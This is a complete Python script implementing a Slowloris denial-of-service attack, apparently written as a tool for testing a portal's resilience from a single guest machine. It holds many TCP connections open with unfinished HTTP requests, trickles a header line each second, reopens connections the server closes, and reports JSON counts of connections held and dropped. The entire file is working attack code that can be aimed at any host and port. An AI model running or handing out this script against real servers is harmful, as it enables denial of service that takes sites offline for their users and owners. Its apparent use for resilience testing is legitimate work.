#!/usr/bin/env python3
"""Slowloris from one guest: keeps up to N connections to the portal open, each with an
unfinished request (a header line every second, never the blank line that ends the headers),
and reopens every connection the server closes, until SECONDS pass or SIGTERM.
Prints one JSON object: connections opened, closed by the server, failed to connect, and the
most held at once.

usage: slowloris.py HOST PORT N SECONDS
"""
import json
import resource
import signal
import socket
import sys
import time

host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 256), hard))

stop = False


def on_term(*_):
    global stop
    stop = True


signal.signal(signal.SIGTERM, on_term)
stats = {"opened": 0, "closed_by_server": 0, "connect_failed": 0, "max_held": 0}
held = []


def open_one():
    s = socket.socket()
    s.settimeout(1.0)
    try:
        s.connect((host, port))
        s.sendall(b"GET / HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: slow\r\n" % (host.encode(), port))
    except OSError:
        stats["connect_failed"] += 1
        s.close()
        return
    s.setblocking(False)
    held.append(s)
    stats["opened"] += 1


def still_open(s):
    """Whether the server still holds `s`: no EOF or reset, and another header line fits."""
    try:
        if s.recv(4096) == b"":
            return False
    except BlockingIOError:
        pass
    except OSError:
        return False
    try:
        s.send(b"X-Slow: 1\r\n")
    except OSError:
        return False
    return True


end = time.monotonic() + seconds
next_trickle = 0.0
while not stop and time.monotonic() < end:
    while len(held) < n and not stop and time.monotonic() < end:
        open_one()
    stats["max_held"] = max(stats["max_held"], len(held))
    now = time.monotonic()
    if now >= next_trickle:
        next_trickle = now + 1.0
        keep = []
        for s in held:
            if still_open(s):
                keep.append(s)
            else:
                stats["closed_by_server"] += 1
                s.close()
        held[:] = keep
    time.sleep(0.05)
print(json.dumps(stats), flush=True)
